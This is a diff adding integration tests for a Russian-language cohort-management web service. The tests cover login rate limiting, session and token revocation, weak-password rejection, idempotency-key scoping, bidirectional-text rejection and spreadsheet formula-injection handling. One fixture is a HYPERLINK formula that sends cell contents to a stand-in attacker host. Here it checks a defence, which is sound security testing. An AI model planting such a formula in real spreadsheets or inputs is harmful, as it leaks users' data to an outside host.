@@ -230,3 +230,118 @@ def test_the_remove_member_question_shows_quotes_as_quotes(system):
     page = c.get(f"/cohorts/teams/{team['id']}", headers=h).get_data(as_text=True)
     question = re.search(r'data-confirm="([^"]*Ласточка[^"]*)"', page).group(1)
     assert "&#34;Ласточка&#34;" in question and "&amp;#34;" not in question  # the browser reads &#34; as a quote
+
+
+def _client_from(system, address: str):
+    client = system.client("cohorts")
+    client.environ_base["REMOTE_ADDR"] = address
+    return client
+
+
+def test_one_address_guessing_many_e_mails_is_slowed_with_retry_after(system):
+    from services.cohorts.accounts.rules import FREE_ADDRESS_FAILURES
+
+    guesser = _client_from(system, "203.0.113.5")
+    answers = [guesser.post("/cohorts/api/v1/auth/token", json={"email": f"victim{i}@example.ru", "password": "x" * 8}).status_code
+               for i in range(FREE_ADDRESS_FAILURES + 1)]
+    assert answers == [401] * FREE_ADDRESS_FAILURES + [429]
+    slowed = guesser.post("/cohorts/api/v1/auth/token", json={"email": "another@example.ru", "password": "x" * 8})
+    assert slowed.status_code == 429 and int(slowed.headers["Retry-After"]) >= 1
+    assert slowed.json["retry_after"] == int(slowed.headers["Retry-After"])
+    # another address is not slowed by it
+    assert _client_from(system, "198.51.100.7").post(
+        "/cohorts/api/v1/auth/token", json={"email": "victim1@example.ru", "password": "x" * 8}).status_code == 401
+
+
+def test_wrong_passwords_from_one_address_do_not_lock_the_owner_out_elsewhere(system):
+    from services.cohorts.accounts.rules import FREE_FAILURES
+
+    account = create_account(system)
+    guesser = _client_from(system, "203.0.113.9")
+    for _ in range(FREE_FAILURES):
+        guesser.post("/cohorts/api/v1/auth/token", json={"email": account["email"], "password": "wrong-guess"})
+    locked = guesser.post("/cohorts/api/v1/auth/token", json={"email": account["email"], "password": account["password"]})
+    assert locked.status_code == 429 and "Retry-After" in locked.headers
+    owner = _client_from(system, "198.51.100.20").post("/cohorts/api/v1/auth/token",
+                                                        json={"email": account["email"], "password": account["password"]})
+    assert owner.status_code == 200 and owner.json["token"]
+
+
+def test_sign_out_ends_a_copied_cookie_and_earlier_tokens_in_every_service(system):
+    from tests.integration.test_web_boundary import SESSION, _sign_in
+
+    account = create_account(system)
+    old_token = token(system, account["email"], account["password"])
+    browser = system.client("cohorts")
+    assert _sign_in(browser, account).status_code == 302
+    cookie = browser.get_cookie(SESSION).value
+    thief = system.client("cohorts")
+    thief.set_cookie(SESSION, cookie)
+    assert thief.get("/cohorts/").status_code == 200
+    page = browser.get("/cohorts/").get_data(as_text=True)
+    assert browser.post("/cohorts/sign-out", data={"csrf_token": _csrf(page)}).status_code == 302
+    assert thief.get("/cohorts/").status_code == 302  # to the sign-in page: the copy died with the sign-out
+    assert system.client("cohorts").get("/cohorts/api/v1/accounts/me", headers=_bearer(old_token)).status_code == 401
+    consultations = system.client("consultations")
+    with WorkerThread(system.runtime("cohorts")), WorkerThread(system.runtime("consultations")):
+        wait_until(lambda: consultations.get("/consultations/api/v1/teams", headers=_bearer(old_token)).status_code == 401,
+                   message="the sign-out reaching consultations")
+
+
+def test_a_token_from_before_a_deactivation_stays_dead_after_reactivation(system):
+    h = coordinator_headers(system)
+    account = create_account(system, roles=("mentor",))
+    old_token = token(system, account["email"], account["password"])
+    c = system.client("cohorts")
+    assert c.patch(f"/cohorts/api/v1/accounts/{account['id']}", json={"active": False}, headers=h).status_code == 200
+    assert c.patch(f"/cohorts/api/v1/accounts/{account['id']}", json={"active": True}, headers=h).status_code == 200
+    assert c.get("/cohorts/api/v1/accounts/me", headers=_bearer(old_token)).status_code == 401
+    assert c.get("/cohorts/api/v1/accounts/me", headers=_bearer(token(system, account["email"], account["password"]))).status_code == 200
+
+
+def test_passwords_anyone_would_try_first_are_refused_naming_the_field(system):
+    h = coordinator_headers(system)
+    c = system.client("cohorts")
+    for weak in ("12345678", "password", "Qwerty123", "aaaaaaaa", "йцукенгш", "anna.petrova-1"):
+        r = c.post("/cohorts/api/v1/accounts", headers=h,
+                   json={"email": "anna.petrova@example.ru", "name": "Анна", "roles": ["mentor"], "password": weak})
+        assert r.status_code == 422 and list(r.json["errors"]) == ["password"], weak
+    ok = c.post("/cohorts/api/v1/accounts", headers=h,
+                json={"email": "anna.petrova@example.ru", "name": "Анна", "roles": ["mentor"], "password": "лодка сосна 42"})
+    assert ok.status_code == 201
+
+
+def test_an_idempotency_key_answers_only_the_same_request_of_the_same_sender(system):
+    h = coordinator_headers(system)
+    c = system.client("cohorts")
+    key = {"Idempotency-Key": "phone-key-1", **h}
+    territory = c.post("/cohorts/api/v1/territories", json={"district": "Мильковский МР", "settlement": "с. Шаромы"}, headers=key)
+    person = c.post("/cohorts/api/v1/people", json={"full_name": "Пётр Повторов"}, headers=key)
+    assert territory.status_code == person.status_code == 201 and "full_name" in person.json  # not the territory's answer
+    again = c.post("/cohorts/api/v1/people", json={"full_name": "Пётр Повторов"}, headers=key)
+    assert again.json["id"] == person.json["id"]  # the same request resent: the first answer
+    other = coordinator_headers(system)
+    theirs = c.post("/cohorts/api/v1/people", json={"full_name": "Иван Другой"}, headers={"Idempotency-Key": "phone-key-1", **other})
+    assert theirs.status_code == 201 and theirs.json["id"] != person.json["id"]
+
+
+def test_text_direction_controls_are_refused_naming_the_field(system):
+    h = coordinator_headers(system)
+    r = system.client("cohorts").post("/cohorts/api/v1/people", json={"full_name": "Иван\u202eвонавИ"}, headers=h)
+    assert r.status_code == 422 and r.json["errors"] == {"full_name": ["Содержит символ, меняющий направление текста."]}
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_in_the_report(system):
+    from openpyxl import load_workbook
+
+    h = coordinator_headers(system)
+    c = system.client("cohorts")
+    program = c.post("/cohorts/api/v1/programs", headers=h, json={
+        "name": '=HYPERLINK("http://evil.example/?"&A2,"Открыть")', "starts_on": "2026-03-01", "ends_on": "2026-11-30",
+        "timezone": "Asia/Kamchatka"}).json
+    cohort = c.post("/cohorts/api/v1/cohorts", json={"program_id": program["id"], "name": "+7 поток"}, headers=h).json
+    report = c.get(f"/cohorts/api/v1/cohorts/{cohort['id']}/report.xlsx", headers=h)
+    assert report.status_code == 200
+    sheet = load_workbook(io.BytesIO(report.data)).worksheets[0]
+    assert sheet["A1"].value.startswith("=HYPERLINK") and sheet["A1"].data_type == "s"
+    assert sheet["A2"].value == "+7 поток" and sheet["A2"].data_type == "s"
